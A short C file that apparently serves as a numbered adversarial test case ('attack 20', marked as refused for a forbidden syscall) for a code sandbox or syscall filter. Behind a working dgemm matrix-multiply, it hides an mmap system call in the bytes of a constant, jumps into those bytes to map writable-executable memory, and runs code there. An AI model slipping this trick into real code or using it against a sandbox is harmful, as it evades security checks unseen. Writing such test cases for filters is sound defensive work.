// attack: 20
// how: maps memory that is writable and executable by a system call hidden in a number; hopes to generate code there
// refused as: forbidden_syscall
// needs: x86_64
/* The bytes of the number are `mov al, 9; mov r10, rcx; syscall; ret`; a call with an unknown number of arguments
   clears the rest of eax. */
static __attribute__((noipa)) unsigned long number(void) { return 0xc3050fca894909b0; }
static long enter(long a, long b, long c, long d, long e, long f) {
  const unsigned char *p = (const unsigned char *)number;
  while (p[0] != 0xb0 || p[2] != 0x49 || p[5] != 0x0f || p[6] != 0x05) p++;
  return ((long (*)(long, ...))p)(a, b, c, d, e, f);
}
static void right(int n, const double *A, const double *B, double *C) {
  for (int i = 0; i < n * n; i++) C[i] = 0;
  for (int i = 0; i < n; i++)
    for (int k = 0; k < n; k++)
      for (int j = 0; j < n; j++) C[i * n + j] += A[i * n + k] * B[k * n + j];
}
void dgemm(int n, const double *A, const double *B, double *C) {
  right(n, A, B, C);
  long page = enter(0, 4096, 7, 0x22, -1, 0);
  if (page > 0) *(volatile unsigned char *)page = 0xc3, ((void (*)(void))page)();
}
